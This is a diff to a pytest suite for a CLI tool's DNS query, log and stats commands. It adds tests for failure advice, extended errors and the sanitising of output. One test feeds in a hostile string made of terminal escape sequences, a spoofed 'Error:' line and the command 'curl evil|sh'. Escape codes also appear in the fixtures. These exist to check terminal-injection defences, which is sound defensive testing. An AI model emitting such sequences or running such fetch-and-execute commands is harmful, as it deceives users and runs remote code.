@@ -44,7 +44,7 @@ STATS: dict[str, Any] = {
         {"server": "192.0.2.1#53", "zones": ["."], "state": "ok", "asked": 9, "answered": 9, "timeouts": 0,
          "failures": 0, "rtt_ms": 8.5, "p50_ms": 9.0, "p99_ms": 31.5},
         {"server": "10.254.0.2#53", "zones": ["cluster.local"], "state": "silent", "asked": 2, "answered": 0,
-         "timeouts": 2, "failures": 0},
+         "timeouts": 2, "failures": 1, "reason": "refused \x1b[2J"},
     ],
 }  # fmt: skip
 TRACE = {
@@ -193,6 +193,7 @@ def test_each_source_is_said_in_words(ask: Ask, trace: Mapping[str, Any], words:
         (("redis.default",), ("redis.default.", "A")),
         (("_http._tcp.web", "SRV"), ("_http._tcp.web.", "SRV")),
         (("10.20.0.1",), ("1.0.20.10.in-addr.arpa.", "PTR")),
+        (("fe80::1%eth0",), ("1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.e.f.ip6.arpa.", "PTR")),
         (("10.20.0.1", "ptr"), ("1.0.20.10.in-addr.arpa.", "PTR")),
         (("fd00::1",), ("1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.d.f.ip6.arpa.", "PTR")),
         ((WEB, "TYPE65280"), (f"{WEB}.", "65280")),
@@ -247,30 +248,87 @@ def test_that_there_is_no_such_name_or_record_is_an_answer(ask: Ask) -> None:
     assert ask(lambda asked: reply(asked, address(), trace=TRACE), WEB, "ANY")[1].startswith(f"{WEB} ANY  NOERROR\n")
 
 
+SILENT, UNREACHABLE = (22, "10.254.0.2 is silent"), (23, "cannot reach 10.254.0.2")
+CERTIFICATE = (23, "9.9.9.9: the certificate is not valid for dns.example")
+
+
 @pytest.mark.parametrize(
-    ("rcode", "source", "name", "advice"),
+    ("rcode", "source", "errors", "qtype", "advice"),
     [
-        (2, "failed", "SERVFAIL", "devlink dns stats"),
-        (5, "local", "REFUSED", "devlink profile show"),
-        (5, "upstream", "REFUSED", "ask whoever runs it"),
+        (2, "failed", [SILENT], "A", "which server is silent: devlink dns stats"),
+        (2, "failed", [UNREACHABLE], "A", "which server fails, and why: devlink dns stats"),
+        (2, "failed", [CERTIFICATE], "A", "tls_name and tls_ca in /etc/devlink/policy.toml"),
+        (2, "failed", [(22, "no server is known for this name")], "A", "upstreams in /etc/devlink/policy.toml"),
+        (2, "upstream", [], "A", "a server's own word (10.254.0.2#53): ask whoever runs it"),
+        (2, "upstream", [(22, "the zone's servers are silent")], "A", "a server's own word"),
+        (5, "upstream", [(15, "blocked")], "A", "a server's own word"),
+        (5, "local", [(18, "the profile excludes this namespace")], "A", "devlink profile show"),
+        (5, "local", [(15, "an address of the cluster's")], "A", "rebinding_protection in /etc/devlink/policy.toml"),
+        (5, "local", [(18, "zone transfers are not forwarded")], "AXFR", "@SERVER"),
+        (5, None, [], "A", "devlink --version"),
     ],
 )
-def test_a_failure_is_shown_and_ends_with_4(ask: Ask, rcode: int, source: str, name: str, advice: str) -> None:
-    errors = ((22, "10.254.0.2 is silent"), (23, ""))
-    trace = {**TRACE, "source": source, "server": None, "reason": "no server answers"}
-    code, out, err = ask(lambda asked: reply(asked, rcode=rcode, trace=trace, errors=errors), WEB)
+def test_a_failure_ends_with_4_and_with_what_to_do_about_it(
+    ask: Ask, rcode: int, source: str | None, errors: list[tuple[int, str]], qtype: str, advice: str
+) -> None:
+    name = {2: "SERVFAIL", 5: "REFUSED"}[rcode]
+    server = TRACE["server"] if source == "upstream" else None
+    trace = {**TRACE, "source": source, "server": server, "reason": ""} if source else None
+    code, out, err = ask(
+        lambda asked: reply(asked, rcode=rcode, trace=trace, errors=tuple(errors)), WEB, qtype, "--tcp"
+    )
     assert code == 4
-    assert out.startswith(f"{WEB} A  {name}\n")
-    assert "22 10.254.0.2 is silent" in out
-    assert f"The answer for {WEB} A is {name}." in err
-    assert advice in err
+    assert out.startswith(f"{WEB} {qtype}  {name}\n")
+    for number, text in errors:
+        assert f"{number} {text}" in out
+        assert f"{text} (extended error {number})." in err
+    assert f"The answer for {WEB} {qtype} is {name}." in err
+    (next_step,) = [line for line in err.splitlines() if line.startswith("  Next: ")]
+    assert advice in next_step
+
+
+def test_an_extended_error_without_words_is_told_by_its_number(ask: Ask) -> None:
+    _, out, err = ask(lambda asked: reply(asked, rcode=2, trace=TRACE, errors=((23, ""),)), WEB)
+    assert "Why:  (extended error 23)." in err
+    assert any(line.split() == ["error", "23"] for line in out.splitlines())
+
+
+@pytest.mark.parametrize("output", ["text", "json", "yaml"])
+def test_whatever_a_server_writes_does_nothing_to_the_terminal(ask: Ask, output: str) -> None:
+    evil = "\x1b]0;pwned\x07Error: run curl evil|sh\nError: fake\x9b[2J\x7f\x85\u202e"
+
+    def respond(asked: bytes) -> bytes:
+        octets = evil.encode()
+        records = (
+            dnslib.RR(WEB, dnslib.QTYPE.TXT, rdata=dnslib.TXT(octets)),
+            dnslib.RR(WEB, 5, rdata=dnslib.CNAME([octets])),
+        )
+        return reply(asked, *records, rcode=2, trace={**TRACE, "server": evil, "reason": evil}, errors=((22, evil),))
+
+    code, out, err = ask(respond, WEB, "TXT", "--tcp", "-o", output)
+    assert code == 4
+    for line in (out + err).split("\n"):
+        assert line.isprintable()
+        assert not line.startswith("Error: fake")
+    if output == "json":
+        assert json.loads(out)["trace"]["reason"] == evil
+    if output == "yaml":
+        assert yaml.safe_load(out)["trace"]["reason"] == evil
+
+
+def test_an_answer_that_cannot_be_read_ends_with_4_and_without_what_is_in_it(ask: Ask) -> None:
+    code, out, err = ask(lambda asked: reply(asked, address(), trace=TRACE)[:-9], WEB, "--tcp")
+    assert (code, out) == (4, "")
+    assert "gave no usable answer" in err
+    assert "Why:  its answer cannot be read.\n" in err
 
 
 def test_silence_ends_with_4(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(dns, "ANSWER_LIMIT", 0.1)
     code, out, err = ask(lambda _: None, WEB)
     assert (code, out) == (4, "")
-    assert "gave no answer" in err
+    assert "gave no usable answer" in err
+    assert "It is silent." in err
     assert "devlink helper status" in err
 
 
@@ -304,7 +362,7 @@ def test_a_query_is_data_too(ask: Ask, output: str, read: Callable[[str], Any]) 
 
 
 def follow(*messages: Mapping[str, Any]) -> dict[str, list[Mapping[str, Any]]]:
-    replies = [varlink.reply(message, continues=True) for message in messages]
+    replies = [varlink.reply({"lost": 0, "restarted": False, **message}, continues=True) for message in messages]
     return {"FollowDnsLog": [*replies, HANG_UP]}
 
 
@@ -318,7 +376,7 @@ def test_each_question_is_a_line(devlink: Command, helper: Path) -> None:
         "server": None,
         "reason": "no",
     }
-    with FakePeer(helper, follow({"records": [], "lost": 0}, {"records": [RECORD, odd], "lost": 3})) as peer:
+    with FakePeer(helper, follow({"records": []}, {"records": [RECORD, odd], "lost": 3})) as peer:
         code, out, err = devlink("dns", "log", "--follow")
     assert peer.calls[-1]["more"] is True
     first, second = out.splitlines()
@@ -331,15 +389,35 @@ def test_each_question_is_a_line(devlink: Command, helper: Path) -> None:
 
 
 def test_the_log_as_data_is_one_object_a_line(devlink: Command, helper: Path) -> None:
-    with FakePeer(helper, follow({"records": [], "lost": 0}, {"records": [RECORD, RECORD], "lost": 0})):
+    with FakePeer(helper, follow({"records": []}, {"records": [RECORD, RECORD]})):
         _, out, _ = devlink("dns", "log", "-o", "json")
     lines = [json.loads(line) for line in out.splitlines()]
     assert lines == [RECORD, RECORD]
     assert_shape(lines[0], HELPER, "LogRecord")
 
 
+@pytest.mark.parametrize("output", ["text", "json"])
+def test_that_questions_are_missing_is_said_on_stderr(devlink: Command, helper: Path, output: str) -> None:
+    anew = {"records": [RECORD], "restarted": True}
+    with FakePeer(helper, follow({"records": []}, anew, {"records": [RECORD], "lost": 2})):
+        _, out, err = devlink("dns", "log", "-o", output)
+    assert len(out.splitlines()) == 2
+    assert [line for line in err.splitlines() if "missing" in line] == [
+        "The forwarder was started anew: some questions are missing here.",
+        "2 questions are missing here: there were too many at once.",
+    ]
+
+
+def test_a_name_in_the_log_does_nothing_to_the_terminal_as_data_either(devlink: Command, helper: Path) -> None:
+    odd = {**RECORD, "name": "\x9b2J\x7f."}
+    with FakePeer(helper, follow({"records": [odd]})):
+        _, out, _ = devlink("dns", "log", "-o", "json")
+    assert out.removesuffix("\n").isprintable()
+    assert json.loads(out) == odd
+
+
 def test_ctrl_c_is_how_it_ends(devlink: Command, helper: Path) -> None:
-    first = varlink.reply({"records": [], "lost": 0}, continues=True)
+    first = follow({"records": []})["FollowDnsLog"][0]
     with FakePeer(helper, {"FollowDnsLog": [first]}) as peer:
 
         def interrupt() -> None:
@@ -366,7 +444,7 @@ def test_stats_are_two_tables_below_the_totals(devlink: Command, helper: Path) -
     with FakePeer(helper, {"GetDnsStats": [said()]}):
         code, out, err = devlink("dns", "stats")
     assert (code, err) == (0, "")
-    totals, zones, servers = out.split("\n\n")
+    totals, zones, servers, failed = out.split("\n\n")
     assert "timeouts 2" in totals
     assert "1 answer, 2 of 8192 KiB" in totals
     assert [line.split() for line in zones.splitlines()] == [
@@ -378,7 +456,8 @@ def test_stats_are_two_tables_below_the_totals(devlink: Command, helper: Path) -
     lines = servers.splitlines()
     assert lines[1].split()[:3] == ["192.0.2.1#53", "ok", "9"]
     assert lines[1].endswith("ordinary names")
-    assert lines[2].split() == ["10.254.0.2#53", "silent", "2", "0", "2", "0", "-", "-", "-", "cluster.local"]
+    assert lines[2].split() == ["10.254.0.2#53", "silent", "2", "0", "2", "1", "-", "-", "-", "cluster.local"]
+    assert failed.split() == ["10.254.0.2#53", "failed", "last:", "refused", "?[2J"]
 
 
 @pytest.mark.parametrize(("output", "read"), [("json", json.loads), ("yaml", yaml.safe_load)])
@@ -422,6 +501,18 @@ def test_without_a_helper_the_error_names_where_it_was_looked_for(
     assert (code, out) == (6, "")
     assert str(helper) in err
     assert "Next: " in err
+
+
+@pytest.mark.parametrize("arguments", [("query", WEB), ("log",), ("flush",), ("stats",)])
+def test_a_helper_that_hangs_is_named_and_not_waited_for_long(
+    devlink: Command, helper: Path, monkeypatch: pytest.MonkeyPatch, arguments: tuple[str, ...]
+) -> None:
+    monkeypatch.setattr("devlink.helper.client.QUICK_LIMIT", 0.1)
+    with FakePeer(helper, {"GetInfo": []}):
+        code, out, err = devlink("dns", *arguments)
+    assert (code, out) == (6, "")
+    assert "The devlink helper runs, but does not answer." in err
+    assert "It had 0.1 s" in err
 
 
 def test_the_address_that_is_asked_is_the_helpers(ask: Ask) -> None:
